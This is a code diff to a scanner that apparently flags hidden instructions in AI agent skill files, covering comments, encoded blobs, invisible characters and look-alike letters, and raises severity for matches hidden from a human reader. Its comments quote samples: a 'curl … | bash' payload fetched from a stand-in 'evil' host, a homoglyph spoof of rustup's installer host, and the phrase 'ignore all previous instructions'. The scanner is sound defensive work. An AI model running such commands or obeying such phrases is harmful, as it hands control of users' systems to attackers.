@@ -139,6 +139,27 @@ class _FileCtx:
     base: object = None  # the _Text of ``view`` (_match_rules), whose literal offsets intents reuse
     joined: str | None = None  # ``view`` with soft breaks joined (_joined), on first use
     prose: str | None = None  # ``joined`` with fenced code blanked (_prose_of), on first use
+    # Text hidden from a human reader: the whole file when it was decoded from hidden text
+    # (a blob, Tag characters), else the (start, end) view offsets of comments in Markdown prose
+    # and of look-alike words (sorted). An instruction there was hidden on purpose.
+    hidden: bool = False
+    hidden_spans: list[tuple[int, int]] = field(default_factory=list)
+    look_spans: list[tuple[int, int]] = field(default_factory=list)  # look-alike words, read as Latin
+
+    def look_alike_at(self, start: int, end: int) -> bool:
+        """Whether [start, end) overlaps a look-alike word (hidden.skeleton)."""
+        spans = self.look_spans
+        k = bisect_left(spans, (end, -1)) - 1
+        return k >= 0 and spans[k][1] > start
+
+    def hidden_at(self, pos: int) -> bool:
+        if self.hidden:
+            return True
+        spans = self.hidden_spans
+        if not spans:
+            return False
+        k = bisect_right(spans, (pos, len(self.view) + 1)) - 1
+        return k >= 0 and spans[k][0] <= pos < spans[k][1]
 
     def line_of(self, pos: int) -> int:
         if self._nl is None:
@@ -522,6 +543,26 @@ def _view(text: str) -> tuple[str, bool]:
     view = hidden.strip_invisible(text)
     invisible = len(view) != len(text)
     return (view if unicodedata.is_normalized("NFKC", view) else unicodedata.normalize("NFKC", view)), invisible
+
+
+def _hidden_spans(ctx: "_FileCtx", looks: list[tuple[int, int]]) -> list[tuple[int, int]]:
+    """Where a rendered page hides text from its reader: HTML and link-label comments outside
+    code, and the lines holding look-alike words (a sentence spelled to slip past a reader's
+    and a filter's eye)."""
+    spans = []
+    view = ctx.view
+    if ctx.kind in ("skill_md", "markdown") and ("<!--" in view or "]:" in view):
+        spans += [(lo, hi) for lo, hi in hidden.comment_spans(view) if ctx.region_at(ctx.line_of(lo)).kind != "code"]
+    for lo, hi in looks:
+        spans.append((view.rfind("\n", 0, lo) + 1, (view.find("\n", hi) + 1 or len(view) + 1) - 1))
+    spans.sort()
+    merged: list[tuple[int, int]] = []
+    for lo, hi in spans:
+        if merged and lo <= merged[-1][1]:
+            merged[-1] = (merged[-1][0], max(hi, merged[-1][1]))
+        else:
+            merged.append((lo, hi))
+    return merged
 
 
 def _prose_of(ctx: "_FileCtx") -> str:
@@ -1287,14 +1328,23 @@ class Scanner:
         r = self.by_id[rid]
         return Finding(rid, r.category, sev, path, line, text, r.message, decoded=decoded, note=note)
 
-    def scan_text(self, path: str, text: str, kind: str, description: str = "", nested: int = 0) -> list[Finding]:
+    def scan_text(self, path: str, text: str, kind: str, description: str = "", nested: int = 0,
+                  hidden_text: bool | None = None) -> list[Finding]:
+        """``hidden_text``: the text was hidden from the reader (by default: when it was decoded, nested)."""
         ascii_only = text.isascii()
         view, invisible = _view(text)
-        ctx = _FileCtx(path, kind, text, view, description=description)
+        looks: list[tuple[int, int]] = []
+        if not ascii_only:  # look-alike words are read as the words they imitate
+            view, looks = hidden.skeleton(view)
+        ctx = _FileCtx(path, kind, text, view, description=description,
+                       hidden=nested > 0 if hidden_text is None else hidden_text)
         if kind in ("skill_md", "markdown"):
             _segment(ctx)
             description = description or ctx.description
             ctx.description = description
+        if not ctx.hidden:
+            ctx.hidden_spans = _hidden_spans(ctx, looks)
+        ctx.look_spans = looks
         findings: list[Finding] = []
         # A lockfile is hashes and URLs (no blobs or padding to weigh), but `sh uv.lock` runs
         # one as well as any script: the patterns read it.
@@ -1574,13 +1624,16 @@ class Scanner:
         # A known benign form must be the matched command itself, not a neighbour on its line
         # ("curl astral.sh/uv | sh && curl evil | bash" holds one installer and one payload).
         command = _statement(vline, col, col + len(matched))
-        for rx, to in rule.lower:
+        # A lowering read on a look-alike word trusts the disguise (sh.rustuр.rs is not rustup's host).
+        disguised = bool(ctx.look_spans) and ctx.look_alike_at(lo, lo + len(vline))
+        for rx, to in [] if disguised else rule.lower:
             if RANK[to] < RANK[sev] and (rx.search(command) or rx.search(matched)):
                 sev, note = to, "lowered: a known benign form"
-        for rx, to in rule.lower_if_description:
-            if RANK[to] < RANK[sev] and ctx.description and rx.search(ctx.description):
+        for (rx, to), keep in zip([] if disguised else rule.lower_if_description, rule.keep_if_in_file):
+            if RANK[to] < RANK[sev] and ctx.description and rx.search(ctx.description) and not (
+                    keep is not None and keep.search(ctx.view)):
                 sev, note = to, "lowered: the skill's description says it does this"
-        if rule.lower_if_host_in_description and RANK[rule.lower_if_host_in_description] < RANK[sev]:
+        if rule.lower_if_host_in_description and RANK[rule.lower_if_host_in_description] < RANK[sev] and not disguised:
             if _installer_named(command + " " + matched, ctx.description):
                 sev, note = rule.lower_if_host_in_description, "lowered: the host is the vendor this skill is about"
         # A phrase rule (quotable) is often quoted to be recognised; a command is quoted to be
@@ -1601,7 +1654,11 @@ class Scanner:
         end_col = col + (m.end() - m.start()) - 1
         quoted = _quoted(vline, col) or (0 <= end_col < len(vline) and _quoted(vline, end_col))
         defensive_line = bool(defensive.search(vline) or defensive.search(prev))
-        if RANK[sev] > RANK["low"]:
+        # Hidden text (a comment, a decoded blob, look-alike letters) describes no attack to a
+        # reader, who never sees it: no heading or context lowers it, and an order there is worse
+        # than the same order in plain sight.
+        in_hidden = ctx.hidden_at(start)
+        if RANK[sev] > RANK["low"] and not in_hidden:
             if rule.quotable and REGEX_LITERAL_RE.search(vline) and code:
                 sev, note = "low", "inside a regular expression (a detector)"
             elif quoted and defensive_line and (rule.quotable or not code):
@@ -1614,6 +1671,8 @@ class Scanner:
                 sev, note = lower_one(sev), f"lowered: under the heading \"{heading.strip()[:60]}\""
             elif document and (defensive_line or defensive.search(ctx.path)):
                 sev, note = lower_one(sev), "lowered: a security document describing the attack"
+        if in_hidden and sev == "medium" and rule.category != "hidden-text":
+            sev, note = "high", (note + "; " if note else "") + "raised: in text hidden from the reader"
         orig = ctx.orig_line(line)
         return Finding(rule.id, rule.category, sev, ctx.path, line, _window(orig, start - ls), rule.message, note=note)
 
@@ -1732,6 +1791,11 @@ class Scanner:
             line = bisect_right(orig_nl, start - 1) + 1 if start else 1
             by_line.setdefault(line, []).append((start, run, sev, what, decoded))
         out = []
+        rule = self.by_id["HT-01"]
+        # A skill about invisible characters (a scrubber, bidi fixtures) keeps them as test data
+        # in its other files: lowered when the description says so and the hidden text says nothing.
+        about = ctx.kind != "skill_md" and ctx.description and next(
+            (to for rx, to in rule.lower_if_description if rx.search(ctx.description)), None)
         for line, runs in list(by_line.items())[:MAX_PER_RULE_FILE]:
             sev = max((r[2] for r in runs), key=RANK.__getitem__)
             whats = sorted({r[3] for r in runs})
@@ -1739,14 +1803,18 @@ class Scanner:
             orig = ctx.orig_line(line)
             col = runs[0][0] - (orig_nl[line - 2] + 1 if line >= 2 else 0)
             note = "; ".join(whats) + f" ({sum(len(r[1]) for r in runs)} characters)"
-            out.append(Finding("HT-01", "hidden-text", sev, ctx.path, line, _window(orig, col),
-                               self.by_id["HT-01"].message, decoded=decoded, note=note))
+            inner = []
             if decoded and nested < 2:
                 for f in self.scan_text(ctx.path, decoded, "markdown", ctx.description, nested + 1):
                     f.line, f.decoded = line, decoded
                     f.text = _window(orig, col)
                     f.note = "in hidden text" + (f"; {f.note}" if f.note else "")
-                    out.append(f)
+                    inner.append(f)
+            if about and RANK[about] < RANK[sev] and not any(RANK[f.severity] > RANK["low"] for f in inner):
+                sev, note = about, note + "; lowered: the skill's description says it handles such characters"
+            out.append(Finding("HT-01", "hidden-text", sev, ctx.path, line, _window(orig, col),
+                               rule.message, decoded=decoded, note=note))
+            out += inner
         return out
 
     def _comments(self, ctx: _FileCtx) -> list[Finding]:
@@ -1771,17 +1839,22 @@ class Scanner:
         return out
 
     def _homoglyphs(self, ctx: _FileCtx) -> list[Finding]:
-        out = []
+        # One finding per line: a sentence spelled in look-alike letters is one disguise, not one per word.
+        by_line: dict[int, list[str]] = {}
         orig_nl = None
         for off, tok in hidden.homoglyph_tokens(ctx.text):
             if orig_nl is None:
                 orig_nl = _newlines(ctx.text)
             line = bisect_right(orig_nl, off - 1) + 1 if off else 1
-            shown = "".join(c if c.isascii() else f"<U+{ord(c):04X}>" for c in tok)
-            out.append(Finding("HT-03", "hidden-text", "medium", ctx.path, line, _window(ctx.orig_line(line), 0),
-                               self.by_id["HT-03"].message, note=f"mixed scripts in {shown!s}"))
-            if len(out) >= MAX_PER_RULE_FILE:
+            if line not in by_line and len(by_line) >= MAX_PER_RULE_FILE:
                 break
+            by_line.setdefault(line, []).append("".join(c if c.isascii() else f"<U+{ord(c):04X}>" for c in tok))
+        out = []
+        for line, toks in by_line.items():
+            note = f"mixed scripts in {toks[0]}" if len(toks) == 1 else \
+                f"mixed scripts in {len(toks)} words: " + ", ".join(toks[:4]) + (", …" if len(toks) > 4 else "")
+            out.append(Finding("HT-03", "hidden-text", "medium", ctx.path, line, _window(ctx.orig_line(line), 0),
+                               self.by_id["HT-03"].message, note=note))
         return out
 
     def _padding(self, ctx: _FileCtx) -> list[Finding]:
@@ -1805,7 +1878,9 @@ class Scanner:
             inner = []
             if decoded and rescans < MAX_RESCANS:  # decoded text is scanned like prose, a bounded number of times
                 rescans += 1
-                inner = self.scan_text(ctx.path, decoded, "markdown", ctx.description, nested + 1)
+                shown = _shown_near(ctx, line, decoded)  # written out next to it: not hidden from the reader
+                inner = self.scan_text(ctx.path, decoded, "markdown", ctx.description, nested + 1,
+                                       False if shown else None)
             inner = [f for f in inner if f.rule != "HT-04"]
             if length >= 120 or inner:
                 sev = "medium" if decoded or ctx.kind in ("skill_md", "markdown") else "low"
@@ -1819,6 +1894,21 @@ class Scanner:
             if len(out) >= MAX_PER_RULE_FILE:
                 break
         return out
+
+
+SHOWN_REACH = 3  # lines on each side of a blob where its decoded text, written out, makes it no secret
+
+
+def _shown_near(ctx: _FileCtx, line: int, decoded: str) -> bool:
+    """Whether the decoded text is also written in plain sight next to its blob ("… which decodes
+    to \"ignore all previous instructions\""): then it hides nothing from the reader."""
+    words = decoded.split()
+    if len(words) > 40:
+        return False
+    want = " ".join(words).lower()
+    near = " ".join(" ".join(ctx.view_line(n).split()) for n in range(max(1, line - SHOWN_REACH),
+                                                                        min(ctx.line_of(len(ctx.view)), line + SHOWN_REACH) + 1))
+    return want in near.lower()
 
 
 _scanner: Scanner | None = None
